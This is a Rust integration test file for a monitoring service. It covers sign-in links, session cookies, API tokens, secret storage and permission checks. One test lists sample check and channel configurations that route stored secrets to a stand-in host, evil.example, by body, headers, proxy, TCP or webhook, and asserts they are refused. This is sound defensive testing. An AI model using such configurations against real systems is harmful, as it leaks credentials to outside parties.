//! Who may pass: links, sessions, tokens; and secrets.

use axum::http::{StatusCode, header};
use serde_json::{Value, json};
use sitepulse_collector::app::{Access, CredentialKind};
use sitepulse_collector::present::door::Door;
use sitepulse_daemon::clock;
use sitepulse_model::check::{Auth, CheckKind, HttpTarget, SecretText};

use super::bench::{Bench, NETWORK, backup, options};

#[tokio::test]
async fn a_sign_in_link_works_once_and_its_session_only_looks() {
    let bench = Bench::new();
    let link = bench.post("/api/v1/sign-in-links", &Value::Null).await.json();
    let url = link["url"].as_str().unwrap();
    let path = url.strip_prefix("https://console.example").unwrap();
    // Programs that look at links use none up: the button does, sent by the page itself.
    for method in ["HEAD", "GET", "GET"] {
        let looked = bench.send(NETWORK, method, path, &[], "").await;
        assert_eq!((looked.status, looked.headers.get(header::SET_COOKIE)), (StatusCode::OK, None));
    }
    let page = bench.send(NETWORK, "GET", path, &[("accept-language", "fr")], "").await.text;
    let token = path.split_once("token=").unwrap().1;
    assert!(page.contains(&format!("name=\"token\" value=\"{token}\"")) && page.contains("par le bouton"), "{page}");
    let body = format!("token={token}");
    let form = ("content-type", "application/x-www-form-urlencoded");
    let foreign = bench.send(NETWORK, "POST", "/sign-in", &[form, ("sec-fetch-site", "cross-site")], &body).await;
    assert_eq!((foreign.status, foreign.headers.get(header::SET_COOKIE)), (StatusCode::FORBIDDEN, None));
    let first = bench.open_link(NETWORK, token).await;
    assert_eq!((first.status, first.headers[header::LOCATION].to_str().unwrap()), (StatusCode::SEE_OTHER, "/"));
    let set = first.headers[header::SET_COOKIE].to_str().unwrap();
    for part in ["__Host-sitepulse_session=", "; HttpOnly", "; SameSite=Strict", "; Secure", "; Path=/"] {
        assert!(set.contains(part), "{set}");
    }
    assert_eq!(bench.open_link(NETWORK, token).await.status, StatusCode::FORBIDDEN);
    assert_eq!(bench.send(NETWORK, "GET", path, &[], "").await.status, StatusCode::FORBIDDEN);
    let cookie = ("cookie", set.split(';').next().unwrap());
    let page = bench.send(NETWORK, "GET", "/", &[cookie], "").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.text.contains("Welcome to SitePulse"));
    let french = bench.send(NETWORK, "GET", "/", &[cookie, ("accept-language", "fr-FR,en;q=0.5")], "").await;
    assert!(french.text.contains("lang=\"fr\"") && french.text.contains("Bienvenue dans SitePulse"));
    assert_eq!(bench.send(NETWORK, "POST", "/api/v1/join-tokens", &[cookie], "{}").await.status, StatusCode::FORBIDDEN);
    let elsewhere = [cookie, ("origin", "https://evil.example"), ("host", "console.example")];
    assert_eq!(bench.send(NETWORK, "POST", "/sign-out", &elsewhere, "").await.status, StatusCode::FORBIDDEN);
    let here = [cookie, ("origin", "https://console.example"), ("host", "console.example")];
    assert_eq!(bench.send(NETWORK, "POST", "/sign-out", &here, "").await.status, StatusCode::SEE_OTHER);
    assert_eq!(bench.send(NETWORK, "GET", "/", &[cookie], "").await.status, StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn tokens_open_the_api_and_bodies_are_bounded() {
    let bench = Bench::new();
    bench.app.set_addresses(vec!["127.0.0.1:8443".into()]).await.unwrap();
    let made = bench.post("/api/v1/api-tokens", &json!({"ttl_seconds": 60})).await.json();
    let bearer = format!("Bearer {}", made["token"].as_str().unwrap());
    let auth = ("authorization", bearer.as_str());
    assert_eq!(bench.send(NETWORK, "GET", "/api/v1/agents", &[auth], "").await.json(), json!([]));
    let join = bench
        .send(NETWORK, "POST", "/api/v1/join-tokens", &[auth], "{\"region\": \"eu-west\", \"ttl_seconds\": 60}")
        .await;
    assert!(join.json()["token"].as_str().unwrap().starts_with("sp1_"), "{}", join.text);
    let long = bench
        .send(NETWORK, "POST", "/api/v1/join-tokens", &[auth], "{\"region\": \"eu-west\", \"ttl_seconds\": 3601}")
        .await;
    assert_eq!(long.status, StatusCode::BAD_REQUEST, "{}", long.text);
    let big = format!("\"{}\"", "x".repeat(2 << 20));
    assert_eq!(
        bench.send(NETWORK, "POST", "/api/v1/join-tokens", &[auth], &big).await.status,
        StatusCode::PAYLOAD_TOO_LARGE
    );
    let metrics = bench.send(NETWORK, "GET", "/metrics", &[auth], "").await;
    assert!(metrics.text.contains("sitepulse_ready 1"), "{}", metrics.text);
}

#[tokio::test]
async fn a_secret_is_set_listed_and_removed_and_never_given_back() {
    let bench = Bench::new();
    let read = bench.token(CredentialKind::ApiToken, Access::Read).await;
    let put = async |name: &str, value: &str| {
        bench.send(Door::Local, "PUT", &format!("/api/v1/secrets/{name}"), &[], value).await
    };
    let mut with_secret = backup();
    let mut target = HttpTarget::get("http://127.0.0.1:9/");
    target.auth = Some(Auth::Bearer(SecretText("secret:ops.token".into())));
    with_secret.kind = CheckKind::Http(Box::new(target));
    let plan = bench.app.apply_as(Access::Admin, vec![with_secret], options(), clock::now()).await.unwrap();
    assert!(plan.warnings[0].contains("secret set ops.token"), "{:?}", plan.warnings);

    let set = put("ops.token", "hunter2-correct\n").await;
    assert_eq!((set.status, set.text.as_str()), (StatusCode::NO_CONTENT, ""));
    let list = bench.get("/api/v1/secrets").await;
    assert_eq!((&list.json()[0]["name"], &list.json()[0]["checks"]), (&json!("ops.token"), &json!(["backup"])));
    assert_eq!(list.json()[0]["opens"], true);
    let looks = format!("Bearer {read}");
    for path in [
        "/api/v1/secrets",
        "/api/v1/secrets/ops.token",
        "/api/v1/checks",
        "/api/v1/checks/backup",
        "/",
        "/checks",
        "/checks/backup/edit",
        "/checks/backup",
        "/metrics",
    ] {
        let answer = bench.get(path).await;
        assert!(answer.status.is_success() && !answer.text.contains("hunter2"), "{path}");
        assert!(!bench.send(NETWORK, "GET", path, &[("authorization", &looks)], "").await.text.contains("hunter2"));
    }
    // What is refused is not quoted either.
    for (name, value) in
        [("a%20b", "hunter2".to_owned()), ("ops", "hunter2".repeat(2000)), ("ops", "hunter2".repeat(200_000))]
    {
        let refused = put(name, &value).await;
        assert!(refused.status.is_client_error() && !refused.text.contains("hunter2"), "{}", refused.text);
        assert_eq!(refused.headers[header::CONTENT_TYPE], "application/problem+json");
    }
    let remove = async |path: &str| bench.send(Door::Local, "DELETE", path, &[], "").await;
    let used = remove("/api/v1/secrets/ops.token").await;
    assert_eq!((used.status, used.json()["code"].clone()), (StatusCode::CONFLICT, json!("conflict")));
    assert_eq!(remove("/api/v1/secrets/ops.token?force=true").await.status, StatusCode::NO_CONTENT);
    assert_eq!(remove("/api/v1/secrets/ops.token").await.status, StatusCode::NOT_FOUND);
    assert_eq!(bench.get("/api/v1/secrets/ops.token").await.status, StatusCode::NOT_FOUND);
}

/// Whoever says where a secret goes can read it there.
#[tokio::test]
async fn who_edits_uses_a_secret_where_it_goes_already_and_nowhere_else() {
    let bench = Bench::new();
    let edit = format!("Bearer {}", bench.token(CredentialKind::ApiToken, Access::Edit).await);
    let apply = async |text: &str, dry_run: bool| {
        let body = json!({"files": [{"name": "f.toml", "text": text}], "dry_run": dry_run}).to_string();
        bench.send(NETWORK, "POST", "/api/v1/apply", &[("authorization", &edit)], &body).await
    };
    let check = |id: &str, more: &str| format!("[[check]]\nid = \"{id}\"\ninterval = \"60s\"\n{more}\n\n");
    let shop = "kind = \"http\"\nurl = \"https://shop.example/a\"\nauth = { bearer = \"secret:shop\" }";
    let channel = |id: &str, more: &str| format!("[[channel]]\nid = \"{id}\"\n{more}\n\n");
    let hook = "kind = \"webhook\"\nurl = \"https://ops.example/hook\"\nsecret = \"secret:hook\"";
    // What was never led anywhere by an admin goes nowhere, also where nobody has set it yet.
    assert_eq!(apply(&check("shop", shop), false).await.status, StatusCode::FORBIDDEN);
    let admins = check("shop", shop) + &channel("ops", hook);
    assert_eq!(bench.apply(&admins, json!({})).await.status, StatusCode::OK);

    let elsewhere = [
        check("thief", "kind = \"http\"\nurl = \"https://evil.example/\"\nbody = \"secret:shop\"\nmethod = \"POST\""),
        check("thief", "kind = \"http\"\nurl = \"https://evil.example/\"\nheaders = { x-a = \"secret:hook\" }"),
        // Another port or no encryption is another listener.
        check("thief", "kind = \"http\"\nurl = \"https://shop.example:8443/\"\nauth = { bearer = \"secret:shop\" }"),
        check("thief", "kind = \"http\"\nurl = \"http://shop.example/\"\nauth = { bearer = \"secret:shop\" }"),
        check("thief", &format!("{shop}\nproxy = \"http://evil.example:3128\"")),
        check("thief", "kind = \"tcp\"\naddress = \"evil.example:9\"\nsend = \"secret:shop\""),
        check("shop", &shop.replace("shop.example", "evil.example")),
        check(
            "thief",
            "kind = \"flow\"\nsteps = [{ name = \"a\", url = \"https://shop.example/\", headers = { x-a = \"secret:shop\" } }, \
             { name = \"b\", url = \"https://evil.example/\" }]",
        ),
        channel("thief", "kind = \"webhook\"\nurl = \"https://evil.example/\"\nsecret = \"secret:hook\""),
        channel("thief", "kind = \"webhook\"\nurl = \"secret:shop\""),
        channel("ops", &hook.replace("ops.example", "evil.example")),
        channel("thief", "kind = \"telegram\"\ntoken = \"secret:shop\"\nchat = \"1\""),
    ];
    for text in &elsewhere {
        for dry_run in [true, false] {
            let refused = apply(text, dry_run).await;
            assert_eq!(refused.status, StatusCode::FORBIDDEN, "{text}{}", refused.text);
            assert!(refused.text.contains("only an admin may lead a secret to a new place"), "{}", refused.text);
        }
    }
    let one = json!({"id": "thief", "kind": "http", "url": "https://evil.example/", "interval": "60s", "auth": {"bearer": "secret:shop"}});
    let headers = [("authorization", edit.as_str())];
    let put = bench.send(NETWORK, "PUT", "/api/v1/definitions/check/thief", &headers, &one.to_string()).await;
    assert_eq!(put.status, StatusCode::FORBIDDEN, "{}", put.text);

    // Where it goes already it may be used by others too, in other ways.
    let cart = "kind = \"http\"\nurl = \"https://SHOP.example:443/cart\"\nmethod = \"POST\"\nbody = \"secret:shop\"";
    let same = check("cart", cart) + &check("shop", &shop.replace("/a", "/b")) + &channel("more", hook);
    let taken = apply(&same, false).await;
    assert_eq!(taken.status, StatusCode::OK, "{}", taken.text);
    // An admin leads it on.
    assert_eq!(bench.apply(&elsewhere[0], json!({})).await.status, StatusCode::OK);
}

/// What may change something where it goes is for those who may act; the others still look.
#[tokio::test]
async fn who_looks_has_nothing_ordered_and_sees_no_former_definition() {
    let bench = Bench::new();
    let check = |id: &str, more: &str| format!("[[check]]\nid = \"{id}\"\ninterval = \"60s\"\n{more}\n\n");
    let home = "kind = \"http\"\nurl = \"http://127.0.0.1:9/former-address\"";
    let order = "kind = \"http\"\nurl = \"http://127.0.0.1:9/order\"\nmethod = \"POST\"";
    let flow = "kind = \"flow\"\nsteps = [{ name = \"a\", url = \"http://127.0.0.1:9/\" }]";
    let text = check("home", home) + &check("order", order) + &check("flow", flow);
    assert_eq!(bench.apply(&text, json!({})).await.status, StatusCode::OK);
    let bearer = async |access| format!("Bearer {}", bench.token(CredentialKind::ApiToken, access).await);
    let (looks, acts, edits) = (bearer(Access::Read).await, bearer(Access::Respond).await, bearer(Access::Edit).await);
    for (id, open) in [("home", true), ("order", false), ("flow", false)] {
        for (who, may) in [(&looks, open), (&acts, true)] {
            let headers = [("authorization", who.as_str())];
            let expected = if may { StatusCode::OK } else { StatusCode::FORBIDDEN };
            for path in [format!("/api/v1/checks/{id}/run"), format!("/checks/{id}/run")] {
                let run = bench.send(NETWORK, "POST", &path, &headers, "").await;
                assert_eq!(run.status, expected, "{path} {}", run.text);
            }
            let page = bench.send(NETWORK, "GET", &format!("/checks/{id}"), &headers, "").await;
            assert_eq!(page.text.contains(&format!("action=\"/checks/{id}/run\"")), may, "{id}");
        }
    }
    assert_eq!(bench.apply(&text.replace("former-address", "now"), json!({})).await.status, StatusCode::OK);
    for (who, sees) in [(&looks, false), (&acts, false), (&edits, true)] {
        let page = bench.send(NETWORK, "GET", "/checks/home", &[("authorization", who)], "").await;
        assert!(page.text.contains("<code>url</code>"), "that it changed is told: {}", page.text);
        assert_eq!(page.text.contains("former-address"), sees);
    }
}
